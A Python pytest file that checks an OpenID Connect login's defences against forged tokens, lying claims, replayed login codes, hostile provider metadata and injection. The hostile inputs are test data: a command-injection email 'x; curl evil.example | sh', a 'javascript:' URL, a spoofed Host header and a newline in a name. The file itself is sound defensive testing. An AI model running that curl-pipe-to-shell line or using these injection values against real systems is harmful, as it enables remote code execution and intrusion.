"""Logging in with OpenID Connect, at a provider that is right, and at one that lies."""

from __future__ import annotations

import html
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from joserfc.jwk import RSAKey

from lazaretto import Broker, InvalidOption
from lazaretto import commands as c
from lazaretto.web.oidc import OidcOptions, Provider, names_of
from lazaretto.web.refusals import NotAuthenticated

from .conftest import Served, serving
from .identity import CLIENT, SECRET, IdentityProvider, identity_provider

Claims = dict[str, Any]


@pytest.fixture(scope="module")
def provider() -> Iterator[IdentityProvider]:
    with identity_provider() as found:
        yield found


@pytest.fixture
def identity(provider: IdentityProvider) -> IdentityProvider:
    """The provider, which lets Ana in."""
    provider.claims = {"email": "ana@example.com", "email_verified": True, "groups": ["oncall"]}
    provider.change, provider.sign, provider.says = dict, None, {}
    return provider


@pytest.fixture
def served(url: str, identity: IdentityProvider) -> Iterator[Served]:
    known = Provider(OidcOptions(identity.issuer, CLIENT, SECRET))
    with serving(url, provider=known) as found:
        yield found


def browser_of(served: Served) -> httpx.Client:
    """A browser: it keeps cookies, and says with changes that its own page made them."""
    browser = served.client(None)
    browser.headers["Sec-Fetch-Site"] = "same-origin"
    browser.base_url = httpx.URL(f"http://127.0.0.1:{served.port}")
    return browser


def log_in(browser: httpx.Client) -> httpx.Response:
    """Go to the provider and come back."""
    away = browser.get("/login/oidc")
    assert away.status_code == 303
    back = httpx.get(away.headers["location"])
    assert back.status_code == 302
    return browser.get(back.headers["location"])


def test_a_person(broker: Broker, served: Served, identity: IdentityProvider) -> None:
    broker.run(c.GrantRole(person="ana@example.com", role="viewer"))
    browser = browser_of(served)
    assert f"Log in at {identity.issuer.removeprefix('http://')}" in browser.get("/login").text
    entered = log_in(browser)
    assert entered.status_code == 200
    assert 'http-equiv="refresh"' in entered.text
    cookie = entered.headers.get_list("set-cookie")
    assert any("HttpOnly" in one and "SameSite=strict" in one for one in cookie)
    me = browser.get("/api/v1/access/me").json()
    assert (me["name"], me["grants"]) == ("ana@example.com", [{"role": "viewer", "pattern": "*"}])
    (session,) = broker.browser_sessions()
    assert (session.person, session.label) == ("ana@example.com", "127.0.0.1")
    assert broker.audit(limit=1)[0].action == "access: login"
    broker.run(c.WithdrawRole(person="ana@example.com", role="viewer"))
    assert browser.get("/api/v1/overview").status_code == 403


def test_a_group(broker: Broker, served: Served, identity: IdentityProvider) -> None:
    """What is granted to it counts at each request; it is compared whole."""
    broker.run(c.GrantRole(person="group:oncall", role="operator"))
    broker.run(c.GrantRole(person="group:on", role="admin"))
    browser = browser_of(served)
    assert log_in(browser).status_code == 200
    assert browser.get("/api/v1/access/me").json()["grants"] == [{"role": "operator", "pattern": "*"}]
    broker.run(c.GrantRole(person="group:oncall", role="client"))
    assert len(browser.get("/api/v1/access/me").json()["grants"]) == 2
    broker.run(c.EndSessions(person="ana@example.com"))
    assert browser.get("/api/v1/access/me").status_code == 401


@pytest.mark.stores("sqlite")
def test_a_stranger(broker: Broker, served: Served, identity: IdentityProvider) -> None:
    """Everybody with an account there is not yet somebody here."""
    browser = browser_of(served)
    refused = log_in(browser)
    assert refused.status_code == 401
    assert "has no role here" in refused.text
    assert "lazaretto access grant ana@example.com viewer" in refused.text
    assert broker.browser_sessions() == []


@pytest.mark.stores("sqlite")
def test_a_name_is_quoted_for_the_shell(broker: Broker, served: Served, identity: IdentityProvider) -> None:
    """An administrator copies the line, and the stranger chose the name."""
    identity.claims["email"] = "x; curl evil.example | sh"
    refused = html.unescape(log_in(browser_of(served)).text)
    assert "lazaretto access grant 'x; curl evil.example | sh' viewer" in refused


def lie(**changes: object) -> Callable[[Claims], Claims]:
    return lambda claims: {name: value for name, value in {**claims, **changes}.items() if value is not None}


LIES = {
    "issuer": lie(iss="http://127.0.0.1:1"),
    "another-server": lie(aud="another"),
    "no-audience": lie(aud=None),
    "several-without-party": lie(aud=[CLIENT, "another"]),
    "another-party": lie(aud=[CLIENT, "another"], azp="another"),
    "expired": lambda claims: {**claims, "exp": claims["iat"] - 61},
    "no-end": lie(exp=None),
    "end-no-number": lie(exp="never"),
    "end-true": lie(exp=True),
    "not-yet": lambda claims: {**claims, "iat": claims["iat"] + 600},
    "nonce": lie(nonce="another"),
    "no-nonce": lie(nonce=None),
    "not-verified": lie(email_verified=False),
    "no-name": lie(email=None),
    "name-no-text": lie(email=7),
    "name-of-a-group": lie(email="group:oncall"),
    "name-with-lines": lie(email="ana\nroot"),
    "long-name": lie(email="a" * 201),
}


@pytest.mark.parametrize("change", LIES.values(), ids=LIES)
def test_claims_that_are_refused(change: Callable[[Claims], Claims]) -> None:
    """They are not for this server, not for this login, not for now, or name nobody."""
    options, now = OidcOptions("https://id.example.com", CLIENT), time.time()
    right = {
        "iss": options.issuer, "aud": CLIENT, "email": "ana@example.com", "email_verified": True,
        "iat": now, "exp": now + 300, "nonce": "n",
    }  # fmt: skip
    assert names_of(right, options, "n", now) == ["ana@example.com"]
    with pytest.raises(NotAuthenticated):
        names_of(change(right), options, "n", now)


@pytest.mark.stores("sqlite")
def test_a_provider_that_lies(broker: Broker, served: Served, identity: IdentityProvider) -> None:
    broker.run(c.GrantRole(person="group:oncall", role="admin"))
    identity.change = LIES["another-server"]
    refused = log_in(browser_of(served))
    assert refused.status_code == 401
    assert 'role="alert"' in refused.text
    assert broker.browser_sessions() == []


@pytest.mark.stores("sqlite")
@pytest.mark.parametrize("how", ["signed_by_public_key", "unsigned", "another-key", "no-token", "changed"])
def test_tokens_that_are_not_signed_right(
    broker: Broker, served: Served, identity: IdentityProvider, how: str
) -> None:
    broker.run(c.GrantRole(person="group:oncall", role="admin"))
    another = IdentityProvider(key=RSAKey.generate_key(2048, {"kid": "first"}))
    right = identity.signed
    identity.sign = {
        "another-key": another.signed,
        "no-token": lambda claims: "x.y.z",
        "changed": lambda claims: right(claims)[:-4] + "AAAA",
    }.get(how) or getattr(identity, how)
    assert log_in(browser_of(served)).status_code == 401
    assert broker.browser_sessions() == []


@pytest.mark.stores("sqlite")
def test_new_keys(broker: Broker, served: Served, identity: IdentityProvider) -> None:
    """They are looked for, but not at each token that somebody makes up."""
    broker.run(c.GrantRole(person="group:oncall", role="admin"))
    assert log_in(browser_of(served)).status_code == 200
    asked = identity.asked
    identity.sign = lambda claims: "x.y.z"
    for _ in range(3):
        assert log_in(browser_of(served)).status_code == 401
    assert identity.asked == asked


@pytest.mark.stores("sqlite")
class TestLogins:
    """Only the browser that began a login ends it, once."""

    def test_of_another_browser(self, broker: Broker, served: Served, identity: IdentityProvider) -> None:
        broker.run(c.GrantRole(person="group:oncall", role="admin"))
        mine, theirs = browser_of(served), browser_of(served)
        back = httpx.get(mine.get("/login/oidc").headers["location"]).headers["location"]
        assert theirs.get(back).status_code == 401
        theirs.get("/login/oidc")
        assert theirs.get(back).status_code == 401
        assert mine.get(back).status_code == 200
        assert mine.get(back).status_code == 401
        assert len(broker.browser_sessions()) == 1

    def test_a_code_that_was_used(self, broker: Broker, served: Served, identity: IdentityProvider) -> None:
        broker.run(c.GrantRole(person="group:oncall", role="admin"))
        browser = browser_of(served)
        away = browser.get("/login/oidc")
        cookies = dict(browser.cookies)
        back = httpx.get(away.headers["location"]).headers["location"]
        assert browser.get(back).status_code == 200
        browser.cookies.update(cookies)
        assert browser.get(back).status_code == 401

    @pytest.mark.parametrize("cookie", ["", "%7B%7D", "x", "%22", "%7B%22state%22:1%7D"])
    def test_a_cookie_of_somebody_else(self, served: Served, identity: IdentityProvider, cookie: str) -> None:
        browser = browser_of(served)
        browser.cookies.set(f"lazaretto-{served.port}-oidc", cookie)
        assert browser.get("/login/oidc/done?state=&code=").status_code == 401

    def test_the_provider_refuses(self, served: Served, identity: IdentityProvider) -> None:
        browser = browser_of(served)
        away = httpx.URL(browser.get("/login/oidc").headers["location"])
        # Only who answers this login may have something shown.
        for state in (None, "another"):
            given = {"error": "denied"} | ({} if state is None else {"state": state})
            other = browser_of(served)
            other.cookies.update(browser.cookies)
            told = other.get("/login/oidc/done", params=given)
            assert told.status_code == 401
            assert "denied" not in told.text
        given = {"error": "<b>denied</b>\u202e", "state": away.params["state"]}
        told = browser.get("/login/oidc/done", params=given)
        assert told.status_code == 401
        assert "denied" in told.text
        assert "<b>" not in told.text
        assert "\u202e" not in told.text

    def test_another_host(self, served: Served, identity: IdentityProvider) -> None:
        """Its address never becomes one that the provider sends people to."""
        told = browser_of(served).get("/login/oidc", headers={"Host": "evil.example.com"})
        assert told.status_code == 421
        assert "location" not in told.headers


@pytest.mark.stores("sqlite")
class TestProvider:
    """What it says of itself is believed only so far."""

    @pytest.mark.parametrize(
        "says",
        [
            {"issuer": "https://another.example.com"},
            {"token_endpoint": "http://plain.example.com/token"},
            {"authorization_endpoint": "javascript:alert(1)"},
            {"jwks_uri": 7},
            {"token_endpoint": None},
        ],
        ids=["issuer", "plain", "script", "number", "none"],
    )
    def test_that_says_what_it_should_not(
        self, served: Served, identity: IdentityProvider, says: Claims
    ) -> None:
        identity.says = says
        told = browser_of(served).get("/login/oidc")
        assert told.status_code == 503
        assert "location" not in told.headers

    def test_that_is_away(self, url: str) -> None:
        """A token still opens the door."""
        away = Provider(OidcOptions("http://127.0.0.1:1", CLIENT))
        with serving(url, provider=away) as served:
            browser = browser_of(served)
            assert browser.get("/login/oidc").status_code == 503
            assert browser.get("/login").status_code == 200

    @pytest.mark.parametrize(
        ("issuer", "client"),
        [("id.example.com", "c"), ("http://id.example.com", "c"), ("https://id.example.com#x", "c"),
         ("https://id.example.com", "")],
    )  # fmt: skip
    def test_options_that_are_refused(self, issuer: str, client: str) -> None:
        with pytest.raises(InvalidOption):
            OidcOptions(issuer, client)

    def test_its_secret_is_not_shown(self) -> None:
        assert "hidden" not in repr(OidcOptions("https://id.example.com", "c", "hidden"))


def test_groups_of_any_type() -> None:
    """Only texts are names."""
    options = OidcOptions("https://id.example.com", CLIENT, name_claim="sub")
    now = time.time()
    claims = {"iss": options.issuer, "aud": [CLIENT], "sub": "ana", "iat": now, "exp": now + 1, "nonce": "n"}
    for groups, found in (("one", ["group:one"]), ({"a": 1}, []), ([1, "two", None], ["group:two"])):
        assert names_of({**claims, "groups": groups}, options, "n", now) == ["ana", *found]
    assert len(names_of({**claims, "groups": [f"g{n}" for n in range(500)]}, options, "n", now)) == 101
    with pytest.raises(NotAuthenticated):
        names_of(claims, options, "m", now)
